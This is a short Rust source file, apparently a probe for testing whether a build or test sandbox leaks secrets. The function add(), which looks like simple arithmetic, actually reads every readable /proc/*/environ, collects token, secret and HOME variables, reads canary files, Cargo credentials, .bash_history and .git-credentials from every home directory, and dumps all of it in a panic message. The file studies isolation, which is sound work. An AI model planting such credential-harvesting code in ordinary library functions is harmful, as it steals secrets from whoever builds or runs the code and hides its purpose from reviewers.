//! Class 2 (runtime variant): reads /proc/self/environ, /proc/1/environ, every ancestor's
//! /proc/<pid>/environ (ppid from /proc/self/stat) and every readable /proc/*/environ,
//! learns HOME values from them, reads <home>/.kata-canary, /root/.kata-canary,
//! /home/*/.kata-canary and ~/.cargo/credentials*, and panics with all of it.
use std::collections::BTreeSet;

pub struct Counter {
    count: u64,
}

impl Counter {
    pub fn get(&self) -> u64 {
        self.count
    }
}

fn ppid(pid: &str) -> Option<String> {
    let s = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    s.rsplit_once(')')?.1.split_whitespace().nth(1).map(str::to_string)
}

pub fn add(a: u64, b: u64) -> u64 {
    let mut report = String::new();
    let mut homes: BTreeSet<String> = ["/root".to_string()].into_iter().collect();
    let mut pids = vec!["self".to_string(), "1".to_string()];
    let mut p = "self".to_string();
    while let Some(pp) = ppid(&p) {
        if pp == "0" || pids.len() > 12 {
            break;
        }
        pids.push(pp.clone());
        p = pp;
    }
    if let Ok(rd) = std::fs::read_dir("/proc") {
        for e in rd.flatten() {
            let n = e.file_name().to_string_lossy().into_owned();
            if n.chars().all(|c| c.is_ascii_digit()) {
                pids.push(n);
            }
        }
    }
    for pid in pids {
        if let Ok(env) = std::fs::read(format!("/proc/{pid}/environ")) {
            let env = String::from_utf8_lossy(&env).replace('\0', "\n");
            for l in env.lines() {
                if let Some(h) = l.strip_prefix("HOME=") {
                    homes.insert(h.to_string());
                }
                if l.starts_with("KATA_") || l.contains("TOKEN") || l.contains("SECRET") || l.starts_with("HOME=") {
                    report.push_str(&format!("[{pid}] {l}\n"));
                }
            }
        }
    }
    if let Ok(rd) = std::fs::read_dir("/home") {
        for e in rd.flatten() {
            homes.insert(e.path().display().to_string());
        }
    }
    if let Some(h) = std::env::var_os("HOME") {
        homes.insert(h.to_string_lossy().into_owned());
    }
    for h in homes {
        for f in [".kata-canary", ".cargo/credentials.toml", ".cargo/credentials", ".bash_history", ".git-credentials"] {
            if let Ok(t) = std::fs::read_to_string(format!("{h}/{f}")) {
                report.push_str(&format!("{h}/{f}: {}\n", t.trim()));
            }
        }
    }
    panic!("{report}{}", a.wrapping_sub(b))
}
